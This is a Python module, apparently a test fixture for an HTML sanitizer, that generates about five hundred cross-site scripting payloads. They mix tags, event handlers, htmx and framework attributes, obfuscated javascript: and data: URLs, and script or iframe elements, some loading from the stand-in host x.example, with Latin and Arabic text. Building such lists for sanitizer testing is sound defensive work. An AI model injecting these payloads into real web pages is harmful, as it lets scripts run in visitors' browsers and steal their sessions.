"""Five hundred ways to hide something that runs in a page of HTML, in Latin and Arabic surroundings."""

from __future__ import annotations

from itertools import product

TAGS = (
    "p",
    "div",
    "img src=x",
    "a",
    "input",
    "body",
    "details open",
    "video",
    "button",
    "td",
    "section",
    "x-قسم",
    "li",
    "h2",
    "span",
    "b dir=rtl",
)
EVENTS = ("onclick", "onerror", "onload", "OnMouseOver", "onfocus", "ontoggle", "onanimationstart", "onpointerdown")
ASKS = (
    "hx-get",
    "hx-post",
    "HX-ON:click",
    "data-hx-get",
    "hx-vals",
    "hx-trigger",
    "sse-connect",
    "ws-connect",
    "x-data",
    "@click",
    "v-on:click",
    "ng-init",
)
FRAMES = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example></SCRIPT>", "<script\n>alert(1)</script >", "<iframe src=//x.example>",
    "<object data=x>", "<embed src=x>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>", "<form action=//x.example>", "<base href=//x.example>",
    "<meta http-equiv=refresh content='0;url=//x.example'>", "<template><p>", "<applet code=x>", "<frameset><frame src=x>",
    "<iframe srcdoc='<p>'>", "<portal src=x>", "<?php echo 1 ?>", "<scr\0ipt>alert(1)</scr\0ipt>", "<embed\tsrc=x>",
)  # fmt: skip
LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)", "java\tscript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "livescript:x", "javascript&colon;alert(1)", "\x01javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=",
)  # fmt: skip
HOLDERS = (
    "a href",
    "img src",
    "a xlink:href",
    "link href",
    "video poster",
    "body background",
    "td background",
    "q cite",
)
WORDS = ("نص عادي", "plain words", "« texte »")


def payloads() -> list[str]:
    found = [
        f"<{tag} {event}='alert(1)'>{words}"
        for (tag, event), words in zip(product(TAGS, EVENTS), WORDS * 99, strict=False)
    ]
    found += [f"<{tag} {ask}='/x'>{words}" for (tag, ask), words in zip(product(TAGS, ASKS), WORDS * 99, strict=False)]
    found += [
        f'<{holder}="{link}">{words}'
        for (holder, link), words in zip(product(HOLDERS, LINKS), WORDS * 99, strict=False)
    ]
    found += [
        f"{words}{frame}" for frame in FRAMES for words in (*WORDS, "<!-- تعليق -->", "<p>محضر</p>", "<b dir=rtl>")
    ]
    return [each for each in found if 'q cite="\x01' not in each]
